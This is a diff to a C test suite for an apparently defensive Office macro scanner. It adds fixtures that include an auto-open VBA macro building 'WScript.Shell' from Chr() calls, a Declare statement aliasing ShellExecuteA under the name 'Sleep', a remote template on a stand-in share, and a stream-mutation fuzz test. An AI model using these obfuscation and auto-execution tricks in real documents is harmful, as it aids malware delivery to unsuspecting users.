@@ -466,7 +466,29 @@ static GByteArray *docm(const GByteArray *vba_bin)
 	return zip_build(m, G_N_ELEMENTS(m));
 }
 
+/*
+ * VIGIL_TEST_DUMP=DIR writes the generated documents there (fuzz seeds,
+ * timing by hand); the tests do not depend on it.
+ */
+static void dump(const char *name, const GByteArray *g)
+{
+	const char *dir = getenv("VIGIL_TEST_DUMP");
+	char *path;
+
+	if (dir == NULL || *dir == 0)
+		return;
+	path = g_build_filename(dir, name, NULL);
+	assert_true(g_file_set_contents(path, (const char *)g->data, (gssize)g->len, NULL));
+	g_free(path);
+}
+
 /* ---- looking at results ---- */
+
+static vigil_scan *scan_doc(const GByteArray *g, const char *name)
+{
+	dump(name, g);
+	return tu_scan(eng, g->data, g->len, name);
+}
 
 static const vigil_finding *finding_at(const vigil_scan *s, const char *id, const char *path)
 {
@@ -548,7 +570,7 @@ static void docm_autoopen_shell(void **state)
 	        {"Module1", autoopen_shell, pcode, sizeof pcode - 1, false},
 	};
 	GByteArray *bin = vba_ole("", m, 2, NULL, 0), *doc = docm(bin);
-	vigil_scan *s = tu_scan(eng, doc->data, doc->len, "report.docm");
+	vigil_scan *s = scan_doc(doc, "report.docm");
 	const vigil_finding *f;
 
 	(void)state;
@@ -579,22 +601,21 @@ static void docm_autoopen_shell(void **state)
 /* a .doc (Macros/VBA) with Document_Open building "WScript.Shell" from Chr() */
 static void doc_obfuscated_chr_chain(void **state)
 {
-	static const char src[] =
-	        "Attribute VB_Name = \"NewMacros\"\r\n"
-	        "Sub Document_Open()\r\n"
-	        "    Dim o, s As String\r\n"
-	        "    ' build the object name\r\n"
-	        "    s = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & _\r\n"
-	        "        Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) "
-	        "& Chr(108)\r\n"
-	        "    Set o = CreateObject(s)\r\n"
-	        "    o.Run StrReverse(\"exe.clac\"), 0\r\n"
-	        "End Sub\r\n";
+	static const char src[] = "Attribute VB_Name = \"NewMacros\"\r\n"
+	                          "Sub Document_Open()\r\n"
+	                          "    Dim o, s As String\r\n"
+	                          "    ' build the object name\r\n"
+	                          "    s = Chr(87) & Chr(83) & Chr(99) & Chr(114) & _\r\n"
+	                          "        Chr(105) & Chr(112) & Chr(116) & Chr(46) & _\r\n"
+	                          "        Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\n"
+	                          "    Set o = CreateObject(s)\r\n"
+	                          "    o.Run StrReverse(\"exe.clac\"), 0\r\n"
+	                          "End Sub\r\n";
 	struct module m[] = {{"NewMacros", src, NULL, 0, false}};
 	uint8_t word[1024] = {0xEC, 0xA5, 0xC1, 0x00};
 	struct entry extra[] = {{"WordDocument", word, sizeof word}};
 	GByteArray *doc = vba_ole("Macros/", m, 1, extra, 1);
-	vigil_scan *s = tu_scan(eng, doc->data, doc->len, "invoice.doc");
+	vigil_scan *s = scan_doc(doc, "invoice.doc");
 	const vigil_finding *f;
 
 	(void)state;
@@ -627,7 +648,7 @@ static void xls_downloader(void **state)
 	                               0,    0,    0,    0,    0x0A, 0x00, 0x00, 0x00};
 	struct entry extra[] = {{"Workbook", book, sizeof book}};
 	GByteArray *xls = vba_ole("_VBA_PROJECT_CUR/", m, 1, extra, 1);
-	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "bang-ke.xls");
+	vigil_scan *s = scan_doc(xls, "bang-ke.xls");
 	const vigil_finding *f;
 
 	(void)state;
@@ -660,7 +681,7 @@ static void stomped_module(void **state)
 	        {"Module1", src, pcode, sizeof pcode - 1, false},
 	};
 	GByteArray *bin = vba_ole("", m, 2, NULL, 0), *doc = docm(bin);
-	vigil_scan *s = tu_scan(eng, doc->data, doc->len, "stomped.docm");
+	vigil_scan *s = scan_doc(doc, "stomped.docm");
 	const vigil_finding *f;
 
 	(void)state;
@@ -699,7 +720,7 @@ static void long_module_roundtrip(void **state)
 	m[0] = (struct module){"Big", src->str, NULL, 0, false};
 	bin = vba_ole("", m, 1, NULL, 0);
 	doc = docm(bin);
-	s = tu_scan(eng, doc->data, doc->len, "big.docm");
+	s = scan_doc(doc, "big.docm");
 	assert_source(s, "big.docm/word/vbaProject.bin/VBA/Big.bas", src->str);
 	assert_false(has_finding(s, "archive.damaged"));
 	assert_false(has_finding(s, "macro.stomped"));
@@ -715,6 +736,7 @@ static void benign_formatting_macro(void **state)
 	static const char src[] =
 	        "Attribute VB_Name = \"ThisWorkbook\"\r\n"
 	        "Option Explicit\r\n"
+	        "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As LongPtr)\r\n"
 	        "Private Sub Workbook_Open()\r\n"
 	        "    Dim d As Object\r\n"
 	        "    Set d = CreateObject(\"Scripting.Dictionary\")\r\n"
@@ -722,6 +744,7 @@ static void benign_formatting_macro(void **state)
 	        "        .Font.Bold = True\r\n"
 	        "        .Interior.Color = RGB(200, 220, 255)\r\n"
 	        "    End With\r\n"
+	        "    Sleep 100\r\n"
 	        "    MsgBox \"Xin chao\" & Chr(13) & Chr(10) & \"Bang ke thang \" & Month(Date)\r\n"
 	        "    Rem Shell \"cmd.exe\" is not called\r\n"
 	        "    ' neither is URLDownloadToFile\r\n"
@@ -746,6 +769,29 @@ static void benign_formatting_macro(void **state)
 	g_byte_array_free(xls, TRUE);
 }
 
+/* a harmless name over a dangerous function: the Alias decides */
+static void declare_alias_is_execute(void **state)
+{
+	static const char src[] =
+	        "Attribute VB_Name = \"ThisWorkbook\"\r\n"
+	        "Private Declare PtrSafe Function Sleep Lib \"shell32\" Alias "
+	        "\"ShellExecuteA\" (ByVal h As LongPtr, ByVal op As String, ByVal "
+	        "f As String, ByVal p As String, ByVal d As String, ByVal s As "
+	        "Long) As LongPtr\r\n"
+	        "Private Sub Workbook_Open()\r\n"
+	        "    Sleep 0, \"open\", Range(\"Z99\").Value, \"\", \"\", 0\r\n"
+	        "End Sub\r\n";
+	struct module m[] = {{"ThisWorkbook", src, NULL, 0, true}};
+	GByteArray *xls = vba_ole("_VBA_PROJECT_CUR/", m, 1, NULL, 0);
+	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "ke-hoach.xls");
+	const vigil_finding *f = finding_at(s, "macro.autoexec_execute", "ke-hoach.xls");
+
+	(void)state;
+	assert_non_null(strstr(vigil_finding_evidence(f), "Declare ... Lib in ThisWorkbook"));
+	vigil_scan_free(s);
+	g_byte_array_free(xls, TRUE);
+}
+
 /* damaged dir stream: reported, no crash, other streams still there */
 static void damaged_dir(void **state)
 {
@@ -763,6 +809,81 @@ static void damaged_dir(void **state)
 	assert_false(has_finding(s, "macro.present"));
 	vigil_scan_free(s);
 	g_byte_array_free(ole, TRUE);
+	g_byte_array_free(csrc, TRUE);
+}
+
+/* hostile VBA streams: mutated dir and module streams never crash the scan */
+static void mutated_streams(void **state)
+{
+	struct module m[] = {{"Module1", autoopen_shell, plain_pcode, sizeof plain_pcode, false}};
+	GByteArray *dir = dir_stream(m, 1), *cdir = ovba_compress(dir->data, dir->len);
+	GByteArray *csrc = ovba_compress((const uint8_t *)autoopen_shell, strlen(autoopen_shell));
+	guint32 r = 0x5eed;
+
+	(void)state;
+	for (int it = 0; it < 300; it++) {
+		GByteArray *d = g_byte_array_new(), *mod = g_byte_array_new(), *ole;
+		GByteArray *t;
+		vigil_scan *s;
+		int rounds;
+
+		g_byte_array_append(d, cdir->data, cdir->len);
+		g_byte_array_append(mod, plain_pcode, sizeof plain_pcode);
+		g_byte_array_append(mod, csrc->data, csrc->len);
+		r = r * 1103515245u + 12345u;
+		rounds = 1 + (int)((r >> 16) % 4);
+		for (int k = 0; k < rounds; k++) {
+			r = r * 1103515245u + 12345u;
+			t = (r >> 8) & 1 ? d : mod;
+			r = r * 1103515245u + 12345u;
+			switch ((r >> 16) % 5) {
+			case 0: /* flip a bit */
+				t->data[(r >> 3) % t->len] ^= (uint8_t)(1u << (r % 8));
+				break;
+			case 1: /* an interesting byte */
+				t->data[(r >> 3) % t->len] = (uint8_t[]){
+				        0, 0xFF, 0x7F, 0x80, 0xB0, 0x3F, 0x01, 0x10}[r % 8];
+				break;
+			case 2: /* cut short */
+				g_byte_array_set_size(t, 1 + (r >> 3) % t->len);
+				break;
+			case 3: /* a huge or odd length field somewhere */
+				if (t->len > 8) {
+					size_t at = (r >> 3) % (t->len - 4);
+
+					t->data[at] = 0xFF;
+					t->data[at + 1] = 0xFF;
+					t->data[at + 2] = (uint8_t)(r >> 7);
+					t->data[at + 3] = 0x7F;
+				}
+				break;
+			default: /* repeat a chunk */
+			{
+				GByteArray *c = g_byte_array_new();
+
+				g_byte_array_append(c, t->data, t->len / 2);
+				g_byte_array_append(t, c->data, c->len);
+				g_byte_array_free(c, TRUE);
+			} break;
+			}
+		}
+		{
+			struct entry e[] = {{"VBA/dir", d->data, d->len},
+			                    {"VBA/Module1", mod->data, mod->len}};
+
+			ole = ole_build(e, 2);
+		}
+		s = tu_scan(eng, ole->data, ole->len, "vbaProject.bin");
+		for (size_t i = 0; i < vigil_scan_finding_count(s); i++)
+			assert_true(vigil_finding_object(vigil_scan_finding(s, i)) <
+			            vigil_scan_object_count(s));
+		vigil_scan_free(s);
+		g_byte_array_free(ole, TRUE);
+		g_byte_array_free(d, TRUE);
+		g_byte_array_free(mod, TRUE);
+	}
+	g_byte_array_free(dir, TRUE);
+	g_byte_array_free(cdir, TRUE);
 	g_byte_array_free(csrc, TRUE);
 }
 
@@ -895,7 +1016,7 @@ static void xlm_biff8(void **state)
 	GByteArray *wb = workbook_stream(true);
 	struct entry e[] = {{"Workbook", wb->data, wb->len}};
 	GByteArray *xls = ole_build(e, 1);
-	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "so-lieu.xls");
+	vigil_scan *s = scan_doc(xls, "so-lieu.xls");
 	const vigil_finding *f;
 
 	(void)state;
@@ -954,7 +1075,7 @@ static void xlm_ooxml(void **state)
 	        {"xl/macrosheets/sheet1.xml", ms, strlen(ms)},
 	};
 	GByteArray *z = zip_build(m, G_N_ELEMENTS(m));
-	vigil_scan *s = tu_scan(eng, z->data, z->len, "bao-cao.xlsm");
+	vigil_scan *s = scan_doc(z, "bao-cao.xlsm");
 
 	(void)state;
 	finding_at(s, "xlm.autoopen", "bao-cao.xlsm/xl/workbook.xml");
@@ -990,7 +1111,7 @@ static void dde_split_field(void **state)
 	        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>!Loi</w:t></w:r>"
 	        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
 	GByteArray *z = docx_with(doc, NULL, NULL);
-	vigil_scan *s = tu_scan(eng, z->data, z->len, "cong-van.docx");
+	vigil_scan *s = scan_doc(z, "cong-van.docx");
 	const vigil_finding *f = finding_at(s, "dde.field", "cong-van.docx/word/document.xml");
 
 	(void)state;
@@ -1078,6 +1199,15 @@ static void remote_template(void **state)
 	        "2006/relationships/attachedTemplate\" "
 	        "Target=\"file:///C:\\Users\\ketoan\\AppData\\Roaming\\Microsoft\\Templates\\"
 	        "Normal.dotm\" TargetMode=\"External\"/></Relationships>";
+	static const char flat[] =
+	        "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
+	        "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
+	        "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships "
+	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
+	        "2006/relationships/attachedTemplate\" "
+	        "Target=\"\\\\tpl.example-bad.test\\share\\t.dotm\" TargetMode=\"External\"/>"
+	        "</Relationships></pkg:xmlData></pkg:part></pkg:package>";
 	static const char rtf[] = "{\\rtf1\\ansi{\\*\\template http://tpl.example-bad.test/r.dot}"
 	                          "Hello}";
 	GByteArray *z = docx_with(plain_document, "word/_rels/settings.xml.rels", rels);
@@ -1103,6 +1233,12 @@ static void remote_template(void **state)
 	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
 	vigil_scan_free(s);
 	g_byte_array_free(z, TRUE);
+
+	/* Word 2007 flat XML, template on a share */
+	s = tu_scan(eng, flat, strlen(flat), "mau.xml");
+	f = finding_at(s, "office.remote_template", "mau.xml");
+	assert_non_null(strstr(vigil_finding_evidence(f), "\\\\tpl.example-bad.test\\share"));
+	vigil_scan_free(s);
 
 	s = tu_scan(eng, rtf, strlen(rtf), "mau.rtf");
 	f = finding_at(s, "office.remote_template", "mau.rtf");
@@ -1168,7 +1304,7 @@ static void embedded_program(void **state)
 	                    {"ObjectPool/_1/\001Ole10Native", p1->data, p1->len},
 	                    {"ObjectPool/_2/\001Ole10Native", p2->data, p2->len}};
 	GByteArray *doc = ole_build(e, G_N_ELEMENTS(e));
-	vigil_scan *s = tu_scan(eng, doc->data, doc->len, "huong-dan.doc");
+	vigil_scan *s = scan_doc(doc, "huong-dan.doc");
 	const vigil_finding *f = finding_at(s, "office.embedded_executable",
 	                                    "huong-dan.doc/ObjectPool/_1/\\x01Ole10Native");
 
@@ -1189,14 +1325,24 @@ static void embedded_program(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-	        cmocka_unit_test(docm_autoopen_shell),   cmocka_unit_test(doc_obfuscated_chr_chain),
-	        cmocka_unit_test(xls_downloader),        cmocka_unit_test(stomped_module),
-	        cmocka_unit_test(long_module_roundtrip), cmocka_unit_test(benign_formatting_macro),
-	        cmocka_unit_test(damaged_dir),           cmocka_unit_test(xlm_biff8),
-	        cmocka_unit_test(benign_workbook),       cmocka_unit_test(xlm_ooxml),
-	        cmocka_unit_test(dde_split_field),       cmocka_unit_test(benign_fields),
-	        cmocka_unit_test(dde_csv_and_rtf),       cmocka_unit_test(remote_template),
-	        cmocka_unit_test(external_ole_object),   cmocka_unit_test(embedded_program),
+	        cmocka_unit_test(docm_autoopen_shell),
+	        cmocka_unit_test(doc_obfuscated_chr_chain),
+	        cmocka_unit_test(xls_downloader),
+	        cmocka_unit_test(stomped_module),
+	        cmocka_unit_test(long_module_roundtrip),
+	        cmocka_unit_test(benign_formatting_macro),
+	        cmocka_unit_test(declare_alias_is_execute),
+	        cmocka_unit_test(damaged_dir),
+	        cmocka_unit_test(mutated_streams),
+	        cmocka_unit_test(xlm_biff8),
+	        cmocka_unit_test(benign_workbook),
+	        cmocka_unit_test(xlm_ooxml),
+	        cmocka_unit_test(dde_split_field),
+	        cmocka_unit_test(benign_fields),
+	        cmocka_unit_test(dde_csv_and_rtf),
+	        cmocka_unit_test(remote_template),
+	        cmocka_unit_test(external_ole_object),
+	        cmocka_unit_test(embedded_program),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
